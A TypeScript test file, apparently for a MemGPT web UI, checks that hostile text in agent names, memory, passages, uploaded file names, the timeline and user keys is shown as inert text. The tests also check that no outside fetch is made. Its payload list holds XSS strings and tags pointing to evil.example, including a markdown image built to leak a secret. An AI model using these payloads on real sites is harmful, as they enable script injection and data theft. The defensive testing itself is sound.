import { writeFileSync } from "node:fs";
import { join } from "node:path";
import { MemGPT } from "memgpt";
import { expect, test } from "vitest";
import { temporaryFolder } from "../../support/agents.ts";
import { testServer } from "../support/server.ts";
import { inBrowser, makeAgent, say, visit } from "./support/browser.ts";

/** What would run, or tell somebody that it was read, if it were taken for more than text. */
const TRAPS = [
  "<img src=x onerror=\"document.title='run'\">",
  "<script>document.title='run'</script>",
  "<svg/onload=document.title='run'>",
  "<iframe src=javascript:parent.document.title='run'>",
  "<style>body{display:none}</style>",
  "<base href=https://evil.example/>",
  "![heron](https://evil.example/leak.png?q=secret)",
  "[heron](javascript:document.title='run')",
  "[heron](https://evil.example/heron)",
  "<link rel=stylesheet href=https://evil.example/x.css>",
  "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
].join(" ");

/** As long as a name of a user may be. */
const NAME = "<img src=x onerror=document.title='run'>";

/** A home whose every text is hostile: names, blocks, messages, passages, documents, checkpoints. */
async function hostileHome(): Promise<string> {
  const dir = temporaryFolder();
  // Such texts are held back where nobody says otherwise.
  writeFileSync(join(dir, "config.json"), JSON.stringify({ quarantine: "off" }));
  const memgpt = await MemGPT.open({ dir, env: {} });
  const agent = await memgpt.createAgent({ name: "Ada" });
  await agent.importMessages([
    { role: "user", text: `The heron says ${TRAPS}`, createdAt: "2026-01-01T08:00:00Z", name: TRAPS },
    { role: "assistant", text: `A heron? ${TRAPS}`, createdAt: "2026-01-01T08:01:00Z" },
  ]);
  await agent.addPassages([{ text: `The heron nests here. ${TRAPS}` }]);
  await agent.addBlock({ label: "birds", value: `Herons. ${TRAPS}`, limit: 5000, description: TRAPS });
  await agent.checkpoint("before <img src=x>");
  await agent.close();
  await memgpt.close();
  return dir;
}

inBrowser("hostile text", () => {
  test("in names, memory, passages, documents and the timeline it is text: nothing runs and nothing is fetched", async () => {
    const { page, asked, complaints, server } = await visit({ dir: await hostileHome() });
    await page.getByRole("button", { name: "More for Ada" }).click();
    await page.getByRole("button", { name: "Rename Ada" }).click();
    await page.getByLabel("New name of Ada").fill(TRAPS);
    await page.keyboard.press("Enter");
    await expect.poll(() => page.getByRole("heading", { level: 1 }).innerText()).toContain("<script>");
    await say(page, "What do you know about the heron?");
    await page.getByRole("button", { name: "Why this reply?" }).click();
    for (const row of await page.locator("details.search-row summary").all()) await row.click();
    const panels = page.getByRole("navigation", { name: "Panels" });
    const shown: string[] = [];
    const look = async (text: string): Promise<void> => {
      await expect.poll(() => page.getByRole("complementary").innerText()).toContain(text);
      shown.push(await page.locator("body").innerText());
    };

    await page.getByRole("button", { name: "Memory", exact: true }).click();
    await look("Herons. <img");
    await page.getByRole("button", { name: "History of birds" }).click();
    await look("Herons. <img");
    await panels.getByRole("button", { name: "Search" }).click();
    await page.getByRole("searchbox").fill("heron");
    await look("The heron says");
    await page.getByRole("button", { name: "What it wrote down" }).click();
    await look("The heron nests here. <img");
    await panels.getByRole("button", { name: "Sources" }).click();
    await page.getByLabel("Files, up to 45 MB each").setInputFiles({
      name: "<img src=x onerror=alert(1)>.md",
      mimeType: "text/markdown",
      buffer: Buffer.from(`# Heron ${TRAPS}\n\nThe heron is grey. ${TRAPS}`),
    });
    await look("<img src=x onerror=alert(1)>.md: done");
    await panels.getByRole("button", { name: "Search" }).click();
    await page.getByRole("searchbox").fill("heron grey");
    await page.getByRole("button", { name: "What it wrote down" }).click();
    await look("The heron is grey.");
    await panels.getByRole("button", { name: "Time" }).click();
    await look("before <img src=x>");
    await page
      .getByRole("list", { name: /^Timeline/ })
      .getByRole("button", { name: /^before <img/ })
      .hover();
    await page.locator(".preview").waitFor();
    await panels.getByRole("button", { name: "Context" }).click();
    await look("Tokens by section");
    await panels.getByRole("button", { name: "Settings" }).click();
    await page.keyboard.press("Control+k");
    await page.getByRole("option", { name: /^Talk to <img/ }).waitFor();

    expect(shown).toHaveLength(8);
    expect(await page.locator("#page").locator("img, script, style, iframe, base, link, meta").count()).toBe(0);
    expect(await page.locator("a[href^='javascript:']").count()).toBe(0);
    expect(await page.title()).toBe("memgpt");
    expect(asked.filter((url) => !url.startsWith(server.url) && !url.startsWith("blob:"))).toEqual([]);
    expect(complaints).toEqual([]);
  });

  test("in names of users and keys, and of a copy, it is text, and what is asked about them names them whole", async () => {
    const dir = temporaryFolder();
    const before = await testServer({ dir });
    const { id } = await before.accounts.addUser(NAME);
    await before.accounts.createKey({ user: id, name: TRAPS });
    const { token } = await before.accounts.createKey({ user: "default", admin: true });
    await before.close(0);
    const { page, complaints } = await visit({ dir });
    await page.getByLabel("Key").fill(token);
    await page.getByRole("button", { name: "Sign in" }).click();
    await makeAgent(page, NAME);
    await page.getByRole("button", { name: `More for ${NAME}` }).click();
    await page.getByRole("button", { name: `Copy ${NAME}` }).click();
    await page.getByRole("heading", { level: 1, name: `${NAME} copy` }).waitFor();

    await page.getByRole("button", { name: "Settings" }).first().click();
    await page.getByText("Users and keys", { exact: true }).click();
    const user = page.getByRole("region", { name: `User ${NAME}` });
    await user.getByRole("button", { name: `Revoke ${TRAPS}` }).waitFor();
    await user.getByText(TRAPS).waitFor();
    await user.getByRole("button", { name: `Remove ${NAME}` }).click();
    await page.getByRole("dialog", { name: `Remove ${NAME}?` }).waitFor();

    expect(
      await page.locator("#page").locator("img, script, style, iframe, base, link, meta, svg[onload]").count(),
    ).toBe(0);
    expect(await page.title()).toBe("memgpt");
    expect(complaints.filter((text) => !text.includes("401"))).toEqual([]);
  });
});
